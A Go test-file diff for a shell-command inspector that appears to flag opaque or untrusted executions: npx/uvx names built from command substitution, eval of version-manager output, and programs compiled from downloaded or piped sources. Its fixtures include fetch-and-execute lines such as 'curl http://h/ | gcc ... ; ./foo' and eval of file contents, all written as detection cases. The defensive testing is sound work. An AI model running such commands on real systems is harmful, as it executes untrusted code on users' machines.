@@ -1,6 +1,7 @@
 package inspect
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -41,6 +42,14 @@ func TestLocatedNames(t *testing.T) {
 		`read MAKE < d; $MAKE x`:                          "",
 		`x=1; eval "$(cat d)"; $D/tool x`:                 "",
 		`${UNSET_TOOL} -x`:                                "",
+		`v=$(cat d); npx tool@$v x`:                       "tool",
+		`npx "@scope/tool@$(cat d)" x`:                    "tool",
+		`uvx "tool==$V" x`:                                "tool",
+		`npx "./$(npm pack | tail -1)" x`:                 "package",
+		`npx "$(cat d)" x`:                                "",
+		`npx t$(cat d) x`:                                 "",
+		`npx -c "$(cat d)"`:                               "",
+		`env "./$(cat d)" x`:                              "",
 		`${MAKE:0:2} x`:                                   "",
 		`${MAKE}x y`:                                      "",
 	} {
@@ -80,5 +89,57 @@ func TestNamesInAContainer(t *testing.T) {
 			got = got || opaque(c)
 		}
 		assert.Equal(t, want, got, text)
+	}
+}
+
+// TestInitTexts: the texts that version managers print for a shell are no alarm,
+// whatever else is evaluated is.
+func TestInitTexts(t *testing.T) {
+	t.Parallel()
+	for text, calm := range map[string]bool{
+		`eval "$(ssh-agent -s)"`:                      true,
+		`eval "$(pyenv init -)" && python x.py`:       true,
+		`eval $(opam env --switch=default)`:           true,
+		"eval `dircolors -b`":                         true,
+		`eval "$(command brew shellenv)"`:             true,
+		`eval "$(conda shell.bash hook 2>/dev/null)"`: true,
+		`eval "$(direnv export bash)"`:                false, // runs .envrc
+		`eval "$(pyenv exec x)"`:                      false,
+		`eval "$(pyenv init -; cat d)"`:               false,
+		`eval "$(pyenv init - $(cat d))"`:             false,
+		`eval "$(pyenv init -) $(cat d)"`:             false,
+		`eval "$(./pyenv init -)"`:                    false,
+		`pyenv() { cat d; }; eval "$(pyenv init -)"`:  false,
+		`eval "$(pyenv init -)"; $D/x`:                false, // it may have set D
+		`eval "$(tool env)"`:                          false,
+	} {
+		alarm := false
+		for _, c := range look(t, nil, text).Cmds {
+			alarm = alarm || c.Opaque.Name || strings.HasPrefix(c.Opaque.Reason, "runs")
+		}
+		assert.Equal(t, calm, !alarm, text)
+	}
+}
+
+// TestCompiledHere: a program compiled from what lay there is as good as the
+// sources; one compiled from what the call writes or is fed is not known.
+func TestCompiledHere(t *testing.T) {
+	t.Parallel()
+	for text, alarm := range map[string]bool{
+		`gcc -o foo foo.c && ./foo`:                            false,
+		`go build -o bin/x ./cmd/x && bin/x --version`:         false,
+		`echo 'int main(){}' > foo.c; gcc -o foo foo.c; ./foo`: true,
+		`curl -o foo.c http://h/; gcc -o foo foo.c; ./foo`:     true,
+		`curl http://h/ | gcc -xc -o foo -; ./foo`:             true,
+		`gcc -xc -o foo - < f; ./foo`:                          true,
+		"gcc -xc -o foo - <<E\nint main(){}\nE\n./foo":         true,
+		`curl -o foo http://h/; ./foo`:                         true,
+		`curl -o x.go http://h/; go build -o foo; ./foo`:       true,
+	} {
+		got := false
+		for _, c := range look(t, nil, text).Cmds {
+			got = got || c.Script != nil && len(c.Script.Findings) > 0 && c.Script.Findings[0].Rule == "script.written-here"
+		}
+		assert.Equal(t, alarm, got, text)
 	}
 }
